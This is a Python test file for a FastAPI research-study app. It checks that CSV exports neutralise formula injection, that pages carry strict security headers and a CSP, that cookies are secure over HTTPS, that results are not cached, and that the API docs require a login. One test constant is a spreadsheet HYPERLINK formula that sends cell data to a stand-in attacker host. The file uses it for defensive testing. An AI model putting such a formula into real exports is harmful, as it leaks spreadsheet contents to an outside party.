"""Findings 8 and 9 of issue 11: CSV exports never carry a live formula; every response has
the security headers; results and exports are not cached; /docs needs a login."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from fastapi.testclient import TestClient

from app.config import REPO_ROOT
from app.db import Database
from app.text_rules import from_spreadsheet_cell, spreadsheet_cell
from tests.app.routes.test_study_results import run_readers
from tests.factories import api_token, login, make_user
from tests.study_factories import create_open_study, with_data

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


def test_a_formula_in_the_study_name_is_inert_in_the_csv_export(
    client: TestClient, db: Database
) -> None:
    with_data(db)
    coord = api_token(db, make_user(db, "coordinator"))
    reader = api_token(db, make_user(db, "reader", "ann"))
    study_id = create_open_study(client, coord, name=HYPERLINK, readers=["ann"])
    run_readers(client, db, study_id, [reader])
    exported = client.get(f"/api/v1/studies/{study_id}/export.csv", headers=coord)
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows and all(r["study"] == "'" + HYPERLINK for r in rows)
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )


def test_every_dangerous_first_character_is_neutralised_and_reversible() -> None:
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted", "plain", "", "a=b"]:
        cell = spreadsheet_cell(text)
        assert isinstance(cell, str)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert from_spreadsheet_cell(cell) == text
    assert spreadsheet_cell(-5) == -5, "numbers stay numbers"


def test_pages_carry_a_strict_csp_and_no_framing(client: TestClient) -> None:
    page = client.get("/login")
    csp = page.headers["content-security-policy"]
    script_src = re.search(r"script-src ([^;]*)", csp)
    assert script_src and "'unsafe-inline'" not in script_src.group(1)
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert page.headers["x-frame-options"] == "DENY"
    assert page.headers["referrer-policy"] == "same-origin"
    assert page.headers["x-content-type-options"] == "nosniff"
    assert "strict-transport-security" not in page.headers, "plain HTTP: no HSTS"
    assert page.headers["cache-control"] == "no-store"
    assert client.get("/api/v1/nowhere").headers["x-frame-options"] == "DENY", "errors too"


def test_templates_and_static_files_hold_no_inline_script() -> None:
    """What the CSP forbids would silently break in the browser: keep it out of the code."""
    inline = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|\son[a-z]+\s*=|javascript:|<style", re.I)
    files = [*(REPO_ROOT / "templates").rglob("*.html"), *(REPO_ROOT / "static").rglob("*.*")]
    found = [
        f"{p.relative_to(REPO_ROOT)}: {m.group(0)}" for p in files for m in _matches(inline, p)
    ]
    assert found == []


def _matches(pattern: re.Pattern[str], path: Path) -> list[re.Match[str]]:
    if path.suffix not in (".html", ".svg"):
        return []
    return list(pattern.finditer(path.read_text()))


def test_over_https_hsts_is_sent_and_the_session_cookie_is_secure(
    client: TestClient, db: Database
) -> None:
    secure = TestClient(client.app, base_url="https://testserver")
    page = secure.get("/login")
    assert page.headers["strict-transport-security"].startswith("max-age=")
    account = make_user(db, "reader")
    response = secure.post(
        "/api/v1/auth/login", json={"username": account.username, "password": account.password}
    )
    cookie = response.headers["set-cookie"].lower()
    assert cookie.startswith("lungsign_session=") and "; secure" in cookie
    plain = client.post(
        "/api/v1/auth/login", json={"username": account.username, "password": account.password}
    )
    assert "secure" not in plain.headers["set-cookie"].lower(), "plain HTTP (a dev server)"


def test_results_and_exports_are_not_cached(client: TestClient, db: Database) -> None:
    with_data(db)
    coord = api_token(db, make_user(db, "coordinator"))
    make_user(db, "reader", "ann")
    study_id = create_open_study(client, coord, readers=["ann"])
    for path in (
        f"/api/v1/studies/{study_id}/results",
        f"/api/v1/studies/{study_id}/export.csv",
        f"/studies/{study_id}/results",
    ):
        response = client.get(path, headers=coord)
        assert response.status_code == 200, path
        assert response.headers["cache-control"] == "no-store", path


def test_api_docs_need_a_login(client: TestClient, db: Database) -> None:
    assert client.get("/openapi.json").status_code == 401
    assert client.get("/docs").status_code == 401
    browser = client.get("/docs", headers={"accept": "text/html"}, follow_redirects=False)
    assert browser.status_code == 303 and browser.headers["location"].startswith("/login")
    reader = make_user(db, "reader")
    assert client.get("/openapi.json", headers=api_token(db, reader)).json()["paths"]
    login(client, reader)
    docs = client.get("/docs")
    assert docs.status_code == 200 and "swagger" in docs.text.lower()
    assert "'unsafe-inline'" in docs.headers["content-security-policy"], "Swagger UI's own page"
